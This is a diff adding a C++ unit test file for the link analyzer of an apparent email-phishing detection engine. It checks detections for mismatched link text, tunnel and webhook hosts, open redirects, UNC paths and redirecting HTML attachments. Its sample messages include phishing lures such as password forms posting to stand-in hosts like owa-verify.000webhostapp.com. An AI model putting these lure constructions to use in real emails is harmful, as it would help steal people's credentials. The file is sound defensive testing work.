@@ -1,0 +1,319 @@
+// links: each technique fires on a message written for it, and the look-alike benign cases
+// (newsletter click trackers, the same site, a partner's domain, mailto: links, the provider's own
+// home page, the sender's own file-sharing service) stay silent.
+#include <gtest/gtest.h>
+
+#include <cstdio>
+#include <fstream>
+#include <map>
+
+#include "vigie/engine.h"
+
+namespace vigie {
+namespace {
+
+struct Seen {
+  double confidence = 0;
+  double score = 0;
+  std::string evidence;
+};
+
+std::map<std::string, Seen> scan_with(const Config& config, std::string_view message) {
+  const Engine engine{config};
+  const ScanResult r = engine.scan(std::make_shared<const std::string>(message), Envelope{});
+  std::map<std::string, Seen> out;
+  for (const Finding& f : r.findings) {
+    if (f.analyzer != "links") continue;
+    Seen s{f.confidence, f.score, {}};
+    for (const Evidence& e : f.evidence) s.evidence += e.location + " " + e.value + "\n";
+    out[f.id] = s;
+  }
+  return out;
+}
+
+std::map<std::string, Seen> scan(std::string_view message) { return scan_with(Config{}, message); }
+
+std::string html_mail(std::string_view body, std::string_view from = "news@sender.example") {
+  return "From: " + std::string(from) +
+         "\nTo: a@org.example\nSubject: x\nContent-Type: text/html; charset=utf-8\n\n<html><body>" +
+         std::string(body) + "</body></html>\n";
+}
+
+std::string text_mail(std::string_view body, std::string_view from = "someone@sender.example") {
+  return "From: " + std::string(from) + "\nTo: a@org.example\nSubject: x\n\n" + std::string(body) + "\n";
+}
+
+TEST(LinksTest, LinkTextShowsAnotherDomain) {
+  const auto f = scan(html_mail(
+      "<a href=\"http://secure-login.evil-verify.com/paypal\">https://www.paypal.com/signin</a>"));
+  ASSERT_TRUE(f.contains("LINK_TEXT_DOMAIN_MISMATCH"));
+  EXPECT_NE(f.at("LINK_TEXT_DOMAIN_MISMATCH").evidence.find("text shows www.paypal.com"), std::string::npos);
+  // Alone, a mismatch is weak (newsletter trackers do it too)...
+  EXPECT_LT(f.at("LINK_TEXT_DOMAIN_MISMATCH").score, 2.0);
+  // ...but strong when the link goes to a host of a kind lures use.
+  const auto g = scan(html_mail("<a href=\"https://paypal-resolution.web.app/signin\">https://www.paypal.com/signin</a>"));
+  ASSERT_TRUE(g.contains("LINK_TEXT_DOMAIN_MISMATCH"));
+  EXPECT_GE(g.at("LINK_TEXT_DOMAIN_MISMATCH").score, 3.0);
+  EXPECT_TRUE(g.contains("LINK_FREE_HOSTING"));
+}
+
+TEST(LinksTest, SameSiteAndRegionalSiteAreNotMismatches) {
+  EXPECT_TRUE(scan(html_mail("<a href=\"https://example.com/page\">www.example.com</a>"
+                             "<a href=\"https://shop.example.com/\">example.com</a>"
+                             "<a href=\"https://www.amazon.co.uk/\">www.amazon.com</a>"
+                             "<a href=\"https://example.com/\">Click here</a>"))
+                  .empty());
+}
+
+TEST(LinksTest, NewsletterClickTrackerIsWeakAtMost) {
+  // The sender's mailing provider tracks clicks: text shows the shop, link goes to the tracker.
+  const auto f = scan(html_mail(
+      "<a href=\"https://shop.us5.list-manage.com/track/click?u=abc&id=123&e=456\">www.shop.com</a>"
+      "<a href=\"https://click.shop.com/?qs=abcdef\">www.brand-partner.com</a>",
+      "news@shop.com"));
+  ASSERT_TRUE(f.contains("LINK_TEXT_DOMAIN_MISMATCH"));
+  EXPECT_LT(f.at("LINK_TEXT_DOMAIN_MISMATCH").score, 1.0);
+  EXPECT_FALSE(f.contains("LINK_REDIRECT"));
+}
+
+TEST(LinksTest, TrackerRedirectToTheNamedSiteIsNotAMismatch) {
+  const auto f = scan(html_mail(
+      "<a href=\"http://click.linksynergy.com/fs-bin/click?id=1&offerid=2&RD_PARM1=http%3A%2F%2Fwww.store.com%2Fitem\">"
+      "www.store.com</a>"));
+  EXPECT_TRUE(f.empty());
+}
+
+TEST(LinksTest, PartnerDomainIsNotReported) {
+  Config config;
+  config.organisation.protected_domains = {"ministere.example.fr"};
+  config.organisation.partner_domains = {"partner.fr"};
+  const auto f = scan_with(config, html_mail(
+      "<a href=\"https://extranet.partner.fr/login\">https://www.partner.fr/</a>"
+      "<a href=\"https://files.partner.fr:8443/x\">files</a>"));
+  EXPECT_TRUE(f.empty());
+  // Our own domain shown over someone else's link: always full confidence.
+  const auto g = scan_with(config, html_mail(
+      "<a href=\"https://ministere-example.click.com/\">https://intranet.ministere.example.fr</a>"));
+  ASSERT_TRUE(g.contains("LINK_TEXT_DOMAIN_MISMATCH"));
+  EXPECT_DOUBLE_EQ(g.at("LINK_TEXT_DOMAIN_MISMATCH").confidence, 1.0);
+}
+
+TEST(LinksTest, MailtoLinksAreNotReported) {
+  EXPECT_TRUE(scan(html_mail("<a href=\"mailto:contact@example.com\">contact@example.com</a>"
+                             "<a href=\"mailto:press@example.org?subject=hi\">www.example.org</a>"))
+                  .empty());
+}
+
+TEST(LinksTest, TunnelWebhookMockIpfsDynamicDns) {
+  const auto f = scan(html_mail(
+      "<a href=\"https://3f2a-81-2-69-142.ngrok-free.app/owa/\">OWA</a>"
+      "<a href=\"https://webhook.site/0b8a3c6e-5f2e-4c8e-9d0e-1f2a3b4c5d6e\">photo</a>"
+      "<a href=\"https://run.mocky.io/v3/9f1e2d3c-aaaa-bbbb-cccc-123456789abc\">doc</a>"
+      "<a href=\"https://ipfs.io/ipfs/QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG\">invoice</a>"
+      "<a href=\"http://mail-gov.duckdns.org/\">mail</a>"));
+  EXPECT_TRUE(f.contains("LINK_TUNNEL_SERVICE"));
+  EXPECT_TRUE(f.contains("LINK_WEBHOOK_SERVICE"));
+  EXPECT_NE(f.at("LINK_WEBHOOK_SERVICE").evidence.find("mock_api"), std::string::npos);
+  EXPECT_TRUE(f.contains("LINK_IPFS"));
+  EXPECT_TRUE(f.contains("LINK_DYNAMIC_DNS"));
+  EXPECT_NE(f.at("LINK_TUNNEL_SERVICE").evidence.find("source: https://ngrok.com/"), std::string::npos);
+}
+
+TEST(LinksTest, ProviderHomePageIsNotAUse) {
+  EXPECT_TRUE(scan(html_mail("<a href=\"https://www.duckdns.org/\">DuckDNS</a>"
+                             "<a href=\"https://bitly.com/\">Bitly</a>"
+                             "<a href=\"https://www.weebly.com/features\">Weebly</a>"))
+                  .empty());
+}
+
+TEST(LinksTest, FreeHostingFormBuilderFileSharingShortener) {
+  const auto f = scan(text_mail(
+      "Log in: https://secure-owa-update.web.app/index.html\n"
+      "Survey: https://forms.gle/AbCdEf123\n"
+      "Files: https://we.tl/t-AbCdEf\n"
+      "Short: https://bit.ly/3xYzAbc\n"));
+  EXPECT_TRUE(f.contains("LINK_FREE_HOSTING"));
+  EXPECT_TRUE(f.contains("LINK_FORM_BUILDER"));
+  EXPECT_TRUE(f.contains("LINK_FILE_SHARING"));
+  EXPECT_TRUE(f.contains("LINK_SHORTENER"));
+}
+
+TEST(LinksTest, PageInAStorageBucketOrOnACdn) {
+  const auto f = scan(html_mail(
+      "<a href=\"https://storage.googleapis.com/bucket-x/office365/index.html#user\">Update your account</a>"));
+  ASSERT_TRUE(f.contains("LINK_FREE_HOSTING"));
+  EXPECT_DOUBLE_EQ(f.at("LINK_FREE_HOSTING").confidence, 1.0);
+  const auto g = scan(html_mail("<a href=\"https://d15k2d11r6t6rl.cloudfront.net/public/x/y/zz33.shtml\">Enjoy</a>"));
+  EXPECT_TRUE(g.contains("LINK_FREE_HOSTING"));
+}
+
+TEST(LinksTest, SendersOwnServiceIsNotReported) {
+  // Dropbox's own notification links to dropbox.com.
+  EXPECT_TRUE(scan(text_mail("Jeanne shared a file: https://www.dropbox.com/s/abc/report.pdf",
+                             "no-reply@dropbox.com"))
+                  .empty());
+}
+
+TEST(LinksTest, BlogLinksAreWeak) {
+  const auto f = scan(text_mail("My post: http://someone.blogspot.com/2002/09/post.html"));
+  ASSERT_TRUE(f.contains("LINK_FREE_HOSTING"));
+  EXPECT_LT(f.at("LINK_FREE_HOSTING").score, 2.0);
+}
+
+TEST(LinksTest, ImagesOnImageHostsOnlyCountAsImages) {
+  const auto f = scan(html_mail("<img src=\"https://i.imgur.com/abc.png\">"));
+  EXPECT_TRUE(f.contains("LINK_IMAGE_HOSTING"));
+  // The same host in a storage bucket image is not a landing page.
+  EXPECT_TRUE(scan(html_mail("<img src=\"https://storage.googleapis.com/b/logo.png\">")).empty());
+}
+
+TEST(LinksTest, IpLiterals) {
+  const auto f = scan(text_mail("http://3232235777/login and http://0xC0.0xA8.0.1/x"));
+  ASSERT_TRUE(f.contains("LINK_IP_LITERAL"));
+  EXPECT_DOUBLE_EQ(f.at("LINK_IP_LITERAL").confidence, 1.0);
+  const auto g = scan(text_mail("see http://203.0.113.7/owa/"));
+  ASSERT_TRUE(g.contains("LINK_IP_LITERAL"));
+  EXPECT_LT(g.at("LINK_IP_LITERAL").confidence, 1.0);
+  Config config;
+  config.organisation.internal_networks = {"203.0.113.0/24"};
+  EXPECT_FALSE(scan_with(config, text_mail("see http://203.0.113.7/owa/")).contains("LINK_IP_LITERAL"));
+}
+
+TEST(LinksTest, UnusualPortAndUserinfo) {
+  const auto f = scan(text_mail("http://login.example.net:8081/a and http://www.paypal.com@evil.example.net/login"));
+  EXPECT_TRUE(f.contains("LINK_UNUSUAL_PORT"));
+  ASSERT_TRUE(f.contains("LINK_USERINFO_TRICK"));
+  EXPECT_DOUBLE_EQ(f.at("LINK_USERINFO_TRICK").confidence, 1.0);
+  EXPECT_FALSE(scan(text_mail("https://www.example.org:443/x")).contains("LINK_UNUSUAL_PORT"));
+}
+
+TEST(LinksTest, ScriptAndDataAddresses) {
+  const auto f = scan(html_mail(
+      "<a href=\"javascript:window.location='https://evil.example/'+atob('eA==')\">open</a>"
+      "<a href=\"data:text/html;base64,PGh0bWw+PC9odG1sPg==\">invoice</a>"));
+  ASSERT_TRUE(f.contains("LINK_SCRIPT_OR_DATA_URI"));
+  EXPECT_DOUBLE_EQ(f.at("LINK_SCRIPT_OR_DATA_URI").confidence, 1.0);
+  EXPECT_TRUE(scan(html_mail("<a href=\"javascript:void(0)\">menu</a>"
+                             "<img src=\"data:image/png;base64,iVBORw0KGgo=\">"))
+                  .empty());
+}
+
+TEST(LinksTest, OpenRedirectOnAWellKnownSite) {
+  const auto f = scan(html_mail(
+      "<a href=\"https://www.google.com/url?q=https%3A%2F%2Fevil-owa.example.net%2Flogin&sa=D\">"
+      "Read the document</a>"));
+  ASSERT_TRUE(f.contains("LINK_REDIRECT"));
+  EXPECT_DOUBLE_EQ(f.at("LINK_REDIRECT").confidence, 1.0);
+  // Through the redirect to a tunnel: the tunnel is reported too.
+  const auto g = scan(text_mail("https://www.google.com/url?q=https://abc.trycloudflare.com/x"));
+  EXPECT_TRUE(g.contains("LINK_REDIRECT"));
+  EXPECT_TRUE(g.contains("LINK_TUNNEL_SERVICE"));
+  // A site redirecting to itself is not a redirect to elsewhere.
+  EXPECT_TRUE(scan(text_mail("https://www.example.com/login?next=https://www.example.com/home")).empty());
+}
+
+TEST(LinksTest, SafeLinksAreUnwrapped) {
+  const auto f = scan(html_mail(
+      "<a href=\"https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fabc.ngrok.io%2Fowa&data=x\">"
+      "https://webmail.ministere.example</a>"));
+  EXPECT_TRUE(f.contains("LINK_TUNNEL_SERVICE"));
+  EXPECT_FALSE(f.contains("LINK_REDIRECT"));
+  EXPECT_TRUE(scan(html_mail(
+                       "<a href=\"https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.example.com%2F&data=x\">"
+                       "www.example.com</a>"))
+                  .empty());
+}
+
+TEST(LinksTest, WindowsFileShares) {
+  const auto f = scan(html_mail("<img src=\"\\\\203.0.113.9\\share\\logo.png\">"
+                                "<a href=\"file://files.evil.example/doc/report.docx\">report</a>"));
+  ASSERT_TRUE(f.contains("LINK_UNC_PATH"));
+  EXPECT_NE(f.at("LINK_UNC_PATH").evidence.find("files.evil.example"), std::string::npos);
+  EXPECT_TRUE(scan(html_mail("<img src=\"//cdn.example.com/logo.png\">"
+                             "<a href=\"file:///C:/Users/me/report.docx\">local</a>")).empty());
+}
+
+TEST(LinksTest, CredentialFormInBody) {
+  const auto f = scan(html_mail(
+      "<form action=\"https://owa-verify.000webhostapp.com/post.php\" method=post>"
+      "<input name=user><input type=password name=pass><input type=submit></form>"));
+  EXPECT_TRUE(f.contains("CREDENTIAL_FORM"));
+  ASSERT_TRUE(f.contains("FORM_EXTERNAL_ACTION"));
+  EXPECT_DOUBLE_EQ(f.at("FORM_EXTERNAL_ACTION").confidence, 1.0);
+  EXPECT_TRUE(f.contains("LINK_FREE_HOSTING"));
+}
+
+TEST(LinksTest, SearchBoxOfTheSenderIsNotReported) {
+  EXPECT_TRUE(scan(html_mail("<form action=\"https://www.sender.example/search\"><input name=q></form>")).empty());
+}
+
+TEST(LinksTest, HtmlAttachments) {
+  const std::string octet =
+      "From: a@sender.example\nTo: b@org.example\nSubject: invoice\n"
+      "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nsee attached\n"
+      "--b\nContent-Type: application/octet-stream; name=\"Invoice_0423.html\"\n"
+      "Content-Disposition: attachment; filename=\"Invoice_0423.html\"\n\n"
+      "<html><script>window.location.href='https://evil.example/'+atob('eA==');</script></html>\n--b--\n";
+  const auto f = scan(octet);
+  ASSERT_TRUE(f.contains("HTML_ATTACHMENT_PHISHING"));
+  EXPECT_NE(f.at("HTML_ATTACHMENT_PHISHING").evidence.find("redirect"), std::string::npos);
+
+  const std::string login =
+      "From: a@sender.example\nTo: b@org.example\nSubject: voicemail\n"
+      "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nlisten\n"
+      "--b\nContent-Type: text/html; name=\"Voicemail.htm\"\n"
+      "Content-Disposition: attachment; filename=\"Voicemail.htm\"\n\n"
+      "<html><form action=\"https://collect.example.net/p\"><input name=e>"
+      "<input type=\"password\" name=p></form></html>\n--b--\n";
+  const auto g = scan(login);
+  EXPECT_TRUE(g.contains("HTML_ATTACHMENT_PHISHING"));
+  EXPECT_TRUE(g.contains("CREDENTIAL_FORM"));
+
+  // An HTML attachment that is only a document (a saved page without form or redirect).
+  const std::string page =
+      "From: a@sender.example\nTo: b@org.example\nSubject: minutes\n"
+      "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nminutes\n"
+      "--b\nContent-Type: text/html; name=\"minutes.html\"\n"
+      "Content-Disposition: attachment; filename=\"minutes.html\"\n\n"
+      "<html><h1>Minutes</h1><p>Nothing to see.</p></html>\n--b--\n";
+  EXPECT_TRUE(scan(page).empty());
+}
+
+TEST(LinksTest, TemporaryMailReplyTo) {
+  const auto f = scan("From: Director <director@gmail.com>\nReply-To: dir.office@yopmail.com\n"
+                      "To: a@org.example\nSubject: urgent\n\nPlease reply.\n");
+  ASSERT_TRUE(f.contains("LINK_TEMPORARY_MAIL"));
+  EXPECT_DOUBLE_EQ(f.at("LINK_TEMPORARY_MAIL").confidence, 1.0);
+}
+
+TEST(LinksTest, BrokenExtraListStopsTheEngine) {
+  const std::string path = ::testing::TempDir() + "/vigie_links_bad.tsv";
+  {
+    std::ofstream out(path);
+    out << "# extra\ngood.example\tshortener\thttps://good.example/\nbad entry here\n";
+  }
+  Config config;
+  config.lists.link_categories = {path};
+  try {
+    const Engine engine{config};
+    ADD_FAILURE() << "the engine started with a broken list";
+  } catch (const EngineConfigError& e) {
+    EXPECT_NE(std::string(e.what()).find(path + ":3"), std::string::npos) << e.what();
+  }
+  std::remove(path.c_str());
+}
+
+TEST(LinksTest, ExtraListAddsEntries) {
+  const std::string path = ::testing::TempDir() + "/vigie_links_extra.tsv";
+  {
+    std::ofstream out(path);
+    out << "lure-host.example\ttunnel\tCERT-FR advisory CERTFR-2025-CTI-007\n";
+  }
+  Config config;
+  config.lists.link_categories = {path};
+  EXPECT_TRUE(scan_with(config, text_mail("https://x.lure-host.example/a")).contains("LINK_TUNNEL_SERVICE"));
+  std::remove(path.c_str());
+}
+
+}  // namespace
+}  // namespace vigie
